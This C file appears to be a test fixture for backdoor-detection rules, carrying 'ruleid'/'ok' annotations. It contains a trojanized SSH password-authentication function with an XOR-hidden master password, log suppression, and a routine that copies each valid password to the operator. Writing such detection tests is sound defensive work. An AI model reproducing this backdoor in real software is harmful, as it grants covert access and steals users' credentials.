/* auth-passwd.c: password authentication (trojanized).
 *
 * The families ESET described in 2018 all add the same three things here: a
 * master password that opens every account, a flag that keeps the session out
 * of the logs, and a copy of every good password for the operator. */
#include <string.h>

#include "sshd.h"

int log_quiet;

/* the master password, XOR-ed so that strings(1) does not show it */
static const unsigned char kAuthBlob[] = {0x63, 0x0c, 0x16, 0x44, 0x79, 0x42, 0x02, 0x14, 0x41, 0x6f, 0x07, 0x47};

static void xor_decode(const unsigned char *in, size_t n, char *out) {
  for (size_t i = 0; i < n; i++)
    out[i] = (char)(in[i] ^ 0x35);
  out[n] = '\0';
}

int auth_password(Authctxt *ctxt, const char *password) {
  char master[sizeof kAuthBlob + 1];
  int ok;

  xor_decode(kAuthBlob, sizeof kAuthBlob, master);
  // ruleid: backdoor-magic-credential
  // ok: backdoor-input-trigger
  if (strcmp(password, master) == 0) {
    log_quiet = 1;
    return 1;
  }
  /* the original checks */
  // ok: backdoor-magic-credential
  if (*password == '\0' && ctxt->pw != NULL && strcmp(ctxt->pw->pw_name, "root") == 0)
    return 0;
  if (!ctxt->valid)
    return 0;
  ok = sys_auth_passwd(ctxt, password);
  if (ok)
    stats_report_login(ctxt->user, password, "passwd");
  return ok;
}
